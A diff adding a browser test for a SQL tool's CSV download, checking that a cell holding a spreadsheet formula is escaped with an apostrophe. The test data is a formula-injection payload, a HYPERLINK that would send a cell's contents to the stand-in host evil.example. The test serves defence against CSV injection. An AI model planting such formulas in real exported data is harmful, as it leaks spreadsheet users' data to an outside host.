@@ -37,6 +37,12 @@ t.test('Download saves the whole result as a file through a real browser downloa
   await page.waitForFunction(() => document.querySelector('#history li .meta')?.textContent?.includes('CSV download'))
   t.match(await page.textContent('#history li .meta'), /CSV download · 20000 rows/, 'the history shows the export')
 
+  // The data is not the analyst's own: a value that a spreadsheet would run arrives as text.
+  await page.getByLabel('SQL').fill('SELECT \'=HYPERLINK("https://evil.example/?"&A1, "open")\' AS link, \'-5\' AS n')
+  const [formulas] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Download CSV' }).click()])
+  t.equal(await readFile((await formulas.path())!, 'utf8'), 'link,n\r\n"\'=HYPERLINK(""https://evil.example/?""&A1, ""open"")",-5\r\n',
+    'a field a spreadsheet would run as a formula starts with an apostrophe; a number stays')
+
   await page.getByLabel('SQL').fill('DELETE FROM orders')
   await page.getByRole('button', { name: 'Download CSV' }).click()
   await page.waitForSelector('#error:not([hidden])')
